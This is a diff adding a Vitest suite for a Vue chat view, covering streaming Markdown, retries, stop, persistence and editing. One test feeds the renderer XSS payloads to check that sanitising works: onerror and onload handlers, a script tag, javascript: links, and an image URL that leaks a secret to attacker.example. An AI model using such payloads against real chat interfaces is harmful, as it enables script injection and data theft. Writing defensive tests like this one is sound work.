@@ -1,0 +1,363 @@
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
+import { flushPromises, mount, type VueWrapper } from '@vue/test-utils'
+import ChatView from '../ChatView.vue'
+import { chatStreamDefaultsKey } from '@/composables/useChatStream'
+import { AFTER_RETRY_MS, answer, sleep, startFakeChatApi, until, type FakeChatApi, type Step } from '@/__tests__/fakeChatApi'
+
+const STORAGE_KEY = 'gptaspire.conversation'
+
+let api: FakeChatApi
+let wrapper: VueWrapper | undefined
+
+beforeAll(async () => {
+  api = await startFakeChatApi()
+})
+afterAll(() => api.close())
+beforeEach(() => {
+  localStorage.clear()
+  api.requests.length = 0
+})
+afterEach(() => {
+  wrapper?.unmount()
+  wrapper = undefined
+})
+
+function mountChat() {
+  wrapper = mount(ChatView, {
+    attachTo: document.body,
+    global: { provide: { [chatStreamDefaultsKey as symbol]: { fetch: api.fetch } } },
+  })
+  return wrapper
+}
+
+const byTestId = (w: VueWrapper, id: string) => w.findAll(`[data-testid="${id}"]`)
+const text = (w: VueWrapper, id: string) => w.find(`[data-testid="${id}"]`).text()
+const input = (w: VueWrapper) => w.get<HTMLTextAreaElement>('[data-testid="composer-input"]')
+
+async function type(w: VueWrapper, message: string, key: { shiftKey?: boolean } = {}) {
+  await input(w).setValue(message)
+  await input(w).trigger('keydown', { key: 'Enter', ...key })
+}
+
+/** Polls the DOM (Vue renders on the next tick) until `check` passes. */
+async function waitFor(check: () => boolean, what: string, timeoutMs = 3000) {
+  await until(
+    () => {
+      try {
+        return check()
+      } catch {
+        return false
+      }
+    },
+    timeoutMs,
+    what,
+  )
+  await flushPromises()
+}
+
+const lastStatus = (w: VueWrapper) => byTestId(w, 'message-status').at(-1)?.text()
+
+const startEvent: Step = {
+  event: 'start',
+  data: { requestId: 'r', model: 'gpt-test', traceId: 't', promptTokens: 10, contextWindow: 1000, remainingTokens: 990 },
+}
+
+describe('ChatView', () => {
+  it('sends on Enter and renders the answer as Markdown while it streams', async () => {
+    api.handle(() => ({
+      steps: answer(['Some **bold**', ' text', '\n\n```js\nconst a = 1\n  indented()\n```\n'], { delayMs: 150 }),
+    }))
+    const w = mountChat()
+
+    await type(w, 'Hello there')
+
+    await waitFor(() => w.find('[data-testid="message-assistant"] strong').exists(), 'bold while streaming')
+    expect(lastStatus(w)).toBe('streaming')
+    expect(w.find('[data-testid="message-assistant"]').text()).not.toContain('indented()')
+    expect(byTestId(w, 'stop-button')).toHaveLength(1)
+
+    await waitFor(() => lastStatus(w) === 'done', 'done')
+    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Hello there'])
+    const code = w.get('[data-testid="message-assistant"] pre code')
+    expect(code.text()).toContain('const a = 1\n  indented()')
+    expect(byTestId(w, 'copy-button')).toHaveLength(1)
+    expect(text(w, 'usage')).toMatch(/3 tokens · 4,073 left/)
+    expect(api.requests).toHaveLength(1)
+    expect(api.requests[0]?.body).toEqual({ messages: [{ role: 'user', content: 'Hello there' }] })
+    expect(document.activeElement).toBe(input(w).element)
+    expect(input(w).element.value).toBe('')
+  })
+
+  it('adds a line on Shift+Enter instead of sending', async () => {
+    const w = mountChat()
+
+    await type(w, 'first line', { shiftKey: true })
+    await sleep(50)
+
+    expect(api.requests).toHaveLength(0)
+    expect(byTestId(w, 'message-user')).toHaveLength(0)
+  })
+
+  it('sends the whole conversation with each new message', async () => {
+    api.handle((_req, index) => ({ steps: answer([`Answer ${index + 1}`]) }))
+    const w = mountChat()
+
+    await type(w, 'First')
+    await waitFor(() => lastStatus(w) === 'done', 'first answer')
+    await type(w, 'Second')
+    await waitFor(() => byTestId(w, 'message-status').length === 2 && lastStatus(w) === 'done', 'second answer')
+
+    expect(api.requests[1]?.body.messages).toEqual([
+      { role: 'user', content: 'First' },
+      { role: 'assistant', content: 'Answer 1' },
+      { role: 'user', content: 'Second' },
+    ])
+  })
+
+  it('shows live token count and remaining budget from start and usage', async () => {
+    api.handle(() => ({
+      steps: [
+        startEvent,
+        { event: 'token', data: { text: 'a' } },
+        { event: 'token', data: { text: 'b' } },
+        { delay: 300 },
+        { event: 'usage', data: { promptTokens: 10, completionTokens: 5, totalTokens: 15, remainingTokens: 985 } },
+        { event: 'finish', data: { reason: 'stop' } },
+      ],
+    }))
+    const w = mountChat()
+
+    await type(w, 'Count')
+
+    await waitFor(() => text(w, 'usage').includes('2 tokens'), 'live count')
+    expect(text(w, 'usage')).toContain('988 left')
+    await waitFor(() => lastStatus(w) === 'done', 'done')
+    expect(text(w, 'usage')).toContain('5 tokens')
+    expect(text(w, 'usage')).toContain('985 left')
+  })
+
+  it('shows ProblemDetails field errors next to the composer and gives the text back', async () => {
+    api.handle(() => ({
+      status: 400,
+      headers: { 'content-type': 'application/problem+json' },
+      body: JSON.stringify({
+        title: 'One or more validation errors occurred.',
+        status: 400,
+        errors: { 'messages[0].content': ['Content is too long.'] },
+      }),
+    }))
+    const w = mountChat()
+
+    await type(w, 'Too long')
+
+    await waitFor(() => byTestId(w, 'field-error').length === 1, 'field error')
+    expect(text(w, 'field-error')).toBe('Message 1: Content is too long.')
+    expect(input(w).element.value).toBe('Too long')
+    expect(input(w).attributes('aria-invalid')).toBe('true')
+    expect(byTestId(w, 'message-user')).toHaveLength(0)
+    expect(byTestId(w, 'message-assistant')).toHaveLength(0)
+    await sleep(1100)
+    expect(api.requests).toHaveLength(1)
+  })
+
+  it('counts down a rate limit, then retries the same conversation in place of the failed answer', async () => {
+    api.handle((_req, index) =>
+      index === 0
+        ? { steps: [startEvent, { event: 'error', data: { code: 'rate_limited', message: 'Too many requests.', retryAfterSeconds: 1 } }] }
+        : { steps: answer(['Second', ' try']) },
+    )
+    const w = mountChat()
+
+    await type(w, 'Hi')
+
+    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
+    expect(text(w, 'error-notice')).toContain('Rate limited')
+    expect(text(w, 'countdown')).toBe('1')
+    expect(w.get('[data-testid="retry-button"]').attributes('disabled')).toBeDefined()
+    expect(lastStatus(w)).toBe('error')
+
+    await waitFor(() => w.get('[data-testid="retry-button"]').attributes('disabled') === undefined, 'retry enabled', 2500)
+    expect(byTestId(w, 'countdown')).toHaveLength(0)
+    expect(api.requests).toHaveLength(1)
+
+    await w.get('[data-testid="retry-button"]').trigger('click')
+    await waitFor(() => lastStatus(w) === 'done', 'retried answer')
+
+    expect(api.requests).toHaveLength(2)
+    expect(api.requests[1]?.body).toEqual(api.requests[0]?.body)
+    expect(byTestId(w, 'message-assistant').map((m) => m.find('.markdown').text())).toEqual(['Second try'])
+    expect(byTestId(w, 'error-notice')).toHaveLength(0)
+  })
+
+  it('offers Retry after a lost connection, and sends nothing until it is clicked', async () => {
+    api.handle((_req, index) =>
+      index === 0 ? { steps: answer(['Half']).slice(0, 2), end: 'destroy' } : { steps: answer(['Whole']) },
+    )
+    const w = mountChat()
+
+    await type(w, 'Hi')
+
+    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
+    expect(text(w, 'error-notice')).toContain('Connection lost')
+    expect(lastStatus(w)).toBe('error')
+    await sleep(AFTER_RETRY_MS)
+    expect(api.requests).toHaveLength(1)
+
+    await w.get('[data-testid="retry-button"]').trigger('click')
+    await waitFor(() => lastStatus(w) === 'done', 'retried answer')
+    expect(byTestId(w, 'message-assistant')).toHaveLength(1)
+    expect(api.requests[1]?.body.messages).toEqual([{ role: 'user', content: 'Hi' }])
+  })
+
+  it('Stop aborts the request, keeps the partial answer marked stopped and refocuses the input', async () => {
+    api.handle(() => ({ steps: answer(['Partial', ' answer']).slice(0, 3), end: 'hang' }))
+    const w = mountChat()
+
+    await type(w, 'Hi')
+    await waitFor(() => w.find('[data-testid="message-assistant"]').text().includes('Partial answer'), 'partial')
+    ;(document.body as HTMLElement).focus()
+    await w.get('[data-testid="stop-button"]').trigger('click')
+
+    await waitFor(() => lastStatus(w) === 'stopped', 'stopped')
+    await api.requests[0]!.closed
+    expect(api.requests[0]!.aborted).toBe(true)
+    expect(w.find('[data-testid="message-assistant"] .markdown').text()).toBe('Partial answer')
+    expect(byTestId(w, 'send-button')).toHaveLength(1)
+    expect(document.activeElement).toBe(input(w).element)
+    await sleep(AFTER_RETRY_MS)
+    expect(api.requests).toHaveLength(1)
+  })
+
+  it('Esc stops the answer', async () => {
+    api.handle(() => ({ steps: answer(['Going']).slice(0, 2), end: 'hang' }))
+    const w = mountChat()
+
+    await type(w, 'Hi')
+    await waitFor(() => lastStatus(w) === 'streaming' && w.text().includes('Going'), 'streaming')
+    await input(w).trigger('keydown', { key: 'Escape' })
+
+    await waitFor(() => lastStatus(w) === 'stopped', 'stopped')
+    await api.requests[0]!.closed
+  })
+
+  it.each([
+    ['length', 'Answer cut at the token limit'],
+    ['content_filter', 'content filter'],
+  ] as const)('explains a %s finish', async (reason, notice) => {
+    api.handle(() => ({ steps: answer(['Cut'], { reason }) }))
+    const w = mountChat()
+
+    await type(w, 'Hi')
+
+    await waitFor(() => byTestId(w, 'finish-notice').length === 1, 'finish notice')
+    expect(text(w, 'finish-notice')).toContain(notice)
+  })
+
+  it('keeps hostile Markdown inert', async () => {
+    const hostile = [
+      'Look: <img src=x onerror="globalThis.__pwned = 1">',
+      '\n\n<script>globalThis.__pwned = 2</script>',
+      '\n\n[click me](javascript:globalThis.__pwned=3) and <a href="javascript:alert(4)">raw</a>',
+      '\n\n![leak](https://attacker.example/leak?q=secret)',
+      '\n\n<svg onload="globalThis.__pwned = 5"></svg>',
+    ]
+    api.handle(() => ({ steps: answer(hostile, { delayMs: 20 }) }))
+    const w = mountChat()
+
+    await type(w, 'Be evil')
+    await waitFor(() => lastStatus(w) === 'done', 'done')
+    await sleep(50)
+
+    const answerEl = w.get('[data-testid="message-assistant"]').element
+    expect(answerEl.querySelectorAll('img, script, svg, iframe')).toHaveLength(0)
+    const handlers = [...answerEl.querySelectorAll('*')].flatMap((el) =>
+      [...el.attributes].filter((attr) => attr.name.startsWith('on')).map((attr) => attr.name),
+    )
+    expect(handlers).toEqual([])
+    for (const link of answerEl.querySelectorAll('a')) {
+      expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i)
+    }
+    expect(answerEl.innerHTML).not.toMatch(/<script/i)
+    expect((globalThis as { __pwned?: number }).__pwned).toBeUndefined()
+    // The model's HTML shows as text.
+    expect(answerEl.textContent).toContain('<img src=x onerror=')
+  })
+
+  it('copies a code block', async () => {
+    const writeText = vi.fn(() => Promise.resolve())
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
+    api.handle(() => ({ steps: answer(['```\nline 1\n    line 2\n```\n']) }))
+    const w = mountChat()
+
+    await type(w, 'Code please')
+    await waitFor(() => byTestId(w, 'copy-button').length === 1 && lastStatus(w) === 'done', 'code block')
+    await w.get('[data-testid="copy-button"]').trigger('click')
+
+    await waitFor(() => text(w, 'copy-button') === 'Copied', 'copied')
+    expect(writeText).toHaveBeenCalledWith('line 1\n    line 2\n')
+  })
+
+  it('keeps the conversation across a reload', async () => {
+    api.handle(() => ({ steps: answer(['Remembered']) }))
+    const first = mountChat()
+    await type(first, 'Remember me')
+    await waitFor(() => lastStatus(first) === 'done', 'done')
+    first.unmount()
+
+    const second = mountChat()
+
+    expect(byTestId(second, 'message-user').map((m) => m.text())).toEqual(['Remember me'])
+    expect(second.get('[data-testid="message-assistant"] .markdown').text()).toBe('Remembered')
+    expect(lastStatus(second)).toBe('done')
+  })
+
+  it('stores an answer while it streams, and shows it as stopped after a reload', async () => {
+    api.handle(() => ({ steps: answer(['Half', ' way']).slice(0, 3), end: 'hang' }))
+    const w = mountChat()
+    await type(w, 'Long one')
+    await waitFor(() => w.text().includes('Half way'), 'partial')
+    await sleep(700)
+
+    // What a reload would find, before the page could react to going away.
+    const stored = localStorage.getItem(STORAGE_KEY)
+    expect(stored).toContain('Half way')
+    w.unmount()
+    wrapper = undefined
+    localStorage.setItem(STORAGE_KEY, stored!)
+
+    const reloaded = mountChat()
+
+    expect(reloaded.get('[data-testid="message-assistant"] .markdown').text()).toBe('Half way')
+    expect(lastStatus(reloaded)).toBe('stopped')
+  })
+
+  it('New chat clears the conversation and its storage', async () => {
+    api.handle(() => ({ steps: answer(['Bye']) }))
+    const w = mountChat()
+    await type(w, 'Hi')
+    await waitFor(() => lastStatus(w) === 'done', 'done')
+
+    await w.get('[data-testid="new-chat-button"]').trigger('click')
+
+    expect(byTestId(w, 'message-user')).toHaveLength(0)
+    expect(byTestId(w, 'message-assistant')).toHaveLength(0)
+    expect(localStorage.getItem(STORAGE_KEY)).toBeNull()
+    expect(document.activeElement).toBe(input(w).element)
+  })
+
+  it('edits the last user message and asks again', async () => {
+    api.handle((req) => ({ steps: answer([`You said: ${req.body.messages.at(-1)?.content}`]) }))
+    const w = mountChat()
+    await type(w, 'Helo')
+    await waitFor(() => lastStatus(w) === 'done', 'first answer')
+
+    await w.get('[data-testid="edit-button"]').trigger('click')
+    expect(input(w).element.value).toBe('Helo')
+    await type(w, 'Hello')
+    await waitFor(() => w.text().includes('You said: Hello'), 'second answer')
+
+    expect(api.requests[1]?.body.messages).toEqual([{ role: 'user', content: 'Hello' }])
+    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Hello'])
+    expect(byTestId(w, 'message-assistant')).toHaveLength(1)
+  })
+})
